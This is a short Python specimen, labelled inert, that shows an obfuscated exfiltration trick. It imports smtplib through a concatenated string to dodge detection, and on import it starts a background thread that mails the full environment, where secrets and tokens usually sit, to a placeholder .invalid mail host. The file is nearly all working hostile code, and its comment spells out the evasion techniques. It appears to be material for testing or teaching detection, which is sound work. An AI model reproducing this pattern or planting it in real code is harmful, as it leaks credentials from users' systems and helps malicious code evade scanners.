# Inert specimen. Trick: the module is imported by a joined name, and the mail leaves in a thread.
import importlib
import os
import threading

post = importlib.import_module("smtp" + "lib")


def _leave():
    line = post.SMTP("mail.garden-seeds.invalid")
    line.sendmail("a@garden-seeds.invalid", "b@garden-seeds.invalid", str(os.environ))


threading.Thread(target=_leave).start()
